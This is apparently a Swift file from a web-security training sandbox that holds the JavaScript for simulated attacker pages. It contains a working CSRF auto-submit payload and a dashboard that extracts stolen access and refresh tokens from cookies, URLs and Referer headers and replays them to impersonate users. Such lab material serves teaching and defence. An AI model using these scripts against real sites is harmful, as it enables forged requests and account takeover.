/// The scripts of the attacker's pages.
enum AttackerScripts {
  /// Sends the form that the address's fragment names, as soon as the page is open.
  static let csrf = #"""
    const send = () => {
      const form = document.getElementById(location.hash.slice(1));
      if (form instanceof HTMLFormElement) form.submit();
    };
    window.addEventListener("hashchange", send);
    send();

    """#

  /// Shows what comes in, and uses what is chosen.
  static let loot = #"""
    const list = document.getElementById("loot");
    const used = document.getElementById("used");
    const token = document.getElementById("token");
    let newest = Number(list.querySelector("li")?.dataset.number ?? 0);

    /** The tokens in a text: those named in an address or among cookies, or the text itself. */
    function tokensIn(name, value) {
      if (/token/i.test(name)) return value ? [value] : [];
      const named = value.matchAll(/(?:access_token|refresh_token|(?:__Host|signet)-(?:access|refresh))=([^;&\s]+)/g);
      return [...named].map(([, found]) => decodeURIComponent(found));
    }

    function offer(place, name, value) {
      for (const found of tokensIn(name, value)) {
        const button = document.createElement("button");
        button.type = "button";
        button.textContent = `Take the token of ${name}`;
        button.addEventListener("click", () => {
          token.value = found;
          token.focus();
        });
        place.append(button);
      }
    }

    function offers(entry) {
      for (const term of entry.querySelectorAll("dt")) {
        offer(entry, term.textContent, term.nextElementSibling.textContent);
      }
    }

    function show({ number, values, referer }) {
      const entry = document.createElement("li");
      entry.className = "entry";
      entry.dataset.number = number;
      const parts = document.createElement("dl");
      const all = referer === null ? values : [...values, { name: "Referer", value: referer }];
      for (const { name, value } of all) {
        parts.append(Object.assign(document.createElement("dt"), { textContent: name }));
        parts.append(Object.assign(document.createElement("dd"), { textContent: value }));
      }
      entry.append(parts);
      offers(entry);
      list.prepend(entry);
    }

    async function look() {
      if (document.hidden) return;
      const answer = await fetch("/attacker/loot.json").catch(() => null);
      if (!answer?.ok) return;
      const { loot } = await answer.json();
      if (loot.length === 0 || loot[0].number < newest) {
        list.replaceChildren(); // The world was reset.
        newest = 0;
      }
      for (const entry of loot.filter(({ number }) => number > newest).reverse()) show(entry);
      newest = loot[0]?.number ?? 0;
      document.getElementById("none").hidden = loot.length > 0;
    }

    document.getElementById("use").addEventListener("submit", async (event) => {
      event.preventDefault();
      const answer = await fetch("/attacker/use", { method: "POST", body: new URLSearchParams({ token: token.value }) });
      const { username, sent = [], refresh_token: next } = await answer.json();
      const steps = sent.map(({ method, path, status }) => `${method} ${path}: ${status}.`).join(" ");
      used.textContent = username ? `${steps} To the sandbox you are ${username} now.` : `${steps} Refused: the token is of no use.`;
      if (next) token.value = next;
    });

    for (const entry of list.querySelectorAll("li")) offers(entry);
    setInterval(look, 1000);

    """#
}
